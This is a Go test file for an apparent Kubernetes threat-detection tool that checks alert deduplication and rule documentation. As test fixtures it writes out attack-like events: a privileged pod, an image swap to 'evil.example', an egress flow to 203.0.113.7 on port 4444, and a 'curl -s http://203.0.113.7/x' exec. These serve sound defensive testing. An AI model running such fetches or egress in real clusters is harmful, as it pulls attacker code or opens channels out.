package detect

import (
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kubedelta/kubedelta/internal/event"
)

// TestWorkloadRulesDedup: the same finding twice (two requests, flows or
// processes, a minute apart) folds into one alert counted twice.
func TestWorkloadRulesDedup(t *testing.T) {
	s := wkState()
	wkShop(s)
	wkNetBaseline(s)
	wkProcBaseline(s)
	var ds []Detector
	ds = append(ds, SpecDetectors(SpecOptions{})...)
	ds = append(ds, NetworkDetectors(NetOptions{})...)
	ds = append(ds, ProcessDetectors(ProcOptions{})...)
	agg := NewAggregator(DefaultConfig())
	emit := func(a Alert) { agg.Add(a, Facts{}) }
	for i := range 2 {
		at := wkNow.Add(time.Duration(i) * time.Minute)
		for _, r := range []*event.APIRequest{
			wkBody(wkReq("alice", "create", "", "pods", "shop", "dbg"), wkPod("dbg", "", `{"privileged":true}`)),
			wkSub(wkReq("alice", "create", "", "serviceaccounts", "shop", "api"), "token"),
			wkReq("alice", "deletecollection", "", "events", "shop", ""),
			wkBody(wkReq("alice", "patch", "apps", "deployments", "shop", "api"),
				`{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"evil.example/api:1"}]}}}}`),
		} {
			r.Time, r.AuditID = at, r.AuditID+string(rune('a'+i))
			for _, d := range ds {
				if x, ok := d.(APIDetector); ok {
					x.API(s, r, emit)
				}
			}
		}
		for _, f := range []*Flow{
			wkFlow(wkAPI, wkCache, 6379, 0, event.VerdictDropped),
			wkFlow(wkAPI, wkExternal("203.0.113.7", ""), 4444, 300, event.VerdictForwarded),
		} {
			f.Time = at
			for _, d := range ds {
				if x, ok := d.(FlowDetector); ok {
					x.Flow(s, f, emit)
				}
			}
		}
		e := wkExec("/usr/bin/curl", "-s", "http://203.0.113.7/x")
		e.Time = at
		for _, d := range ds {
			if x, ok := d.(ExecDetector); ok {
				x.Exec(s, e, emit)
			}
		}
	}
	alerts := agg.Alerts()
	rules := map[string]int{}
	for _, a := range alerts {
		rules[a.Rule]++
		if a.Count != 2 {
			t.Errorf("%s %q: count %d, want 2", a.Rule, a.Key, a.Count)
		}
		if !a.LastSeen.Equal(wkNow.Add(time.Minute)) || !a.FirstSeen.Equal(wkNow) {
			t.Errorf("%s: first %v last %v", a.Rule, a.FirstSeen, a.LastSeen)
		}
	}
	for _, rule := range []string{RuleWorkloadRiskySpec, RuleRBACEscalation, RulePersistenceChange, RuleImageUntrustedRegistry,
		RuleImageFirstSeen, RuleWorkloadFirstSeen, RuleNetDenied, RuleNetNovelEgress, RuleExecNovelCommand} {
		if rules[rule] == 0 {
			t.Errorf("%s: no alert:%s", rule, wkDescribe(alerts))
		}
	}
}

// TestWorkloadRulesDocumented: every rule the detectors declare is
// described, and docs/detections/workloads.md has a section for it.
func TestWorkloadRulesDocumented(t *testing.T) {
	var ds []Detector
	ds = append(ds, SpecDetectors(SpecOptions{})...)
	ds = append(ds, NetworkDetectors(NetOptions{})...)
	ds = append(ds, ProcessDetectors(ProcOptions{})...)
	doc := wkReadDoc(t)
	var ids []string
	for _, d := range ds {
		for _, r := range d.Rules() {
			ids = append(ids, r.ID)
			if r.Category == "" || r.Summary == "" || len(r.MITRE) == 0 {
				t.Errorf("%s: incomplete %+v", r.ID, r)
			}
			if !strings.Contains(doc, "## `"+r.ID+"`") {
				t.Errorf("%s: no section in docs/detections/workloads.md", r.ID)
			}
			for _, m := range r.MITRE {
				if !strings.Contains(doc, m) {
					t.Errorf("%s: MITRE %s not in the docs", r.ID, m)
				}
			}
		}
	}
	slices.Sort(ids)
	if len(slices.Compact(ids)) != 10 {
		t.Errorf("rules %v", ids)
	}
	// Alerts marshal with their rule and severity by name.
	b, err := json.Marshal(Alert{Rule: RuleNetDenied, Severity: High})
	if err != nil || !strings.Contains(string(b), `"severity":"high"`) {
		t.Errorf("%s %v", b, err)
	}
}

func wkReadDoc(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile("../../docs/detections/workloads.md")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
